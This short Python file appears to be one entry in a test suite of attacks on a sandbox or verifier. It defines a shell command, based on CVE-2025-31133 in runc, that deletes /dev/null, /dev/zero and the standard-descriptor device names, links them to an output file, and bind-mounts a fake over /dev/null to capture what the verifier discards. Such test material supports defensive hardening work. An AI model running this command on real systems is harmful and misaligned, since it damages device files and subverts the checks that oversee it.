"""Replaces /dev/null and the standard descriptors' names, to read what the verifier throws away or redirects.

Source: CVE-2025-31133 (runc: /dev/null replaced by a link).
"""

from attacks.frame import Attack

ATTACK = Attack(
    "shell",
    """cd /dev; for name in null zero fd stdin stdout stderr; do rm -f $name; ln -s /app/out.txt $name; done
    umount /dev/null; mount --bind /app/fake /dev/null; true""",
)
